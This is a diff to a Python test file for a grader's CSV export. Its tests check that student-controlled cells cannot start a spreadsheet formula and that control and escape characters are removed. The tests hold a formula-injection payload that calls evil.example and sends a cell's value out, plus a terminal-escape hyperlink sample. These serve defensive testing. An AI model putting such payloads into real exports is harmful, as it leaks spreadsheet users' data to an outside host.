@@ -21,11 +21,13 @@ from grader.batch.exports import (
     class_csv,
     gradescope_results,
     junit_xml,
+    spreadsheet_text,
 )
 from grader.batch.model import RosterRow, StudentOutcome
 from grader.report.render import get_environment
 from grader.results import CheckResult, GradeResult
 from grader.spec import LabSpec, load_spec
+from grader.text import plain
 from tests.test_report import tags_of
 
 SPEC = load_spec()
@@ -210,10 +212,11 @@ def test_csv_leaves_every_score_cell_empty_for_an_ungradable_student() -> None:
     assert all(row[check_id] == "" for check_id in CHECK_IDS)
 
 
-@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
+@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", " =", "\t=", "\r+", "\u00a0@"])
 def test_csv_cells_a_student_controls_cannot_start_a_formula(trigger: str) -> None:
-    """A cell starting with =, +, -, @, tab or CR gets a leading single quote, so a spreadsheet shows it as text."""
+    """A cell starting with =, +, -, @ (after blanks too) gets a leading single quote, so a spreadsheet shows text."""
     payload = f'{trigger}HYPERLINK("https://evil.example/?x="&A1,"click")'
+    written = "'" + plain(payload, newlines=False)
     outcomes = [
         graded(2, f"{trigger}s1", PERFECT, name=payload, email=payload, sis_login_id=payload, section=payload),
         ungradable(3, "s2", reason=payload, name="Plain Name"),
@@ -221,10 +224,47 @@ def test_csv_cells_a_student_controls_cannot_start_a_formula(trigger: str) -> No
     rows = csv_rows(class_csv(outcomes, SPEC))
     first, second = rows
     for column in ("name", "email", "sis_login_id", "section"):
-        assert first[column] == "'" + payload
-    assert first["student_id"] == f"'{trigger}s1"
-    assert second["reason"] == "'" + payload
+        assert first[column] == written
+    assert first["student_id"] == "'" + plain(f"{trigger}s1", newlines=False)
+    assert second["reason"] == written
     assert second["name"] == "Plain Name"
+
+
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        ("\x1b[31mAda\x1b[0m", "Ada"),
+        ("Ada\nLovelace", "Ada Lovelace"),
+        ("Ada\r\nLovelace", "Ada Lovelace"),
+        ("\tAda", " Ada"),
+        ("\rAda", "Ada"),
+        ("Ada\x7f\x85\x9b2J\x00\x07", "Ada"),
+        ("\x1b]8;;https://evil.example\x07link\x1b]8;;\x07", "link"),
+    ],
+)
+def test_csv_cells_hold_no_control_characters(text: str, written: str) -> None:
+    """C0 and C1 controls (newlines, escape sequences, DEL) in any text cell are removed or become a space."""
+    outcomes = [
+        graded(2, f"s{text}", PERFECT, name=text, email=text, sis_login_id=text, section=text),
+        ungradable(3, "s2", reason=text, name="Plain Name"),
+    ]
+    csv_text = class_csv(outcomes, SPEC)
+    first, second = csv_rows(csv_text)
+    for column in ("name", "email", "sis_login_id", "section"):
+        assert first[column] == written
+    assert first["student_id"] == f"s{written}"
+    assert second["reason"] == written
+    assert not [c for c in csv_text if (ord(c) < 32 and c not in "\r\n") or 127 <= ord(c) < 160]
+    assert len(csv_text.splitlines()) == 3
+
+
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [("-1", "-1"), ("-2.50", "-2.50"), ("12", "12"), ("-1+2", "'-1+2"), ("-", "'-"), ("+44 20", "'+44 20")],
+)
+def test_spreadsheet_text_keeps_plain_numbers(text: str, written: str) -> None:
+    """A plain decimal number is no formula and is kept; anything else that starts like one is quoted."""
+    assert spreadsheet_text(text) == written
 
 
 # --- junit.xml -------------------------------------------------------------------------------------------------
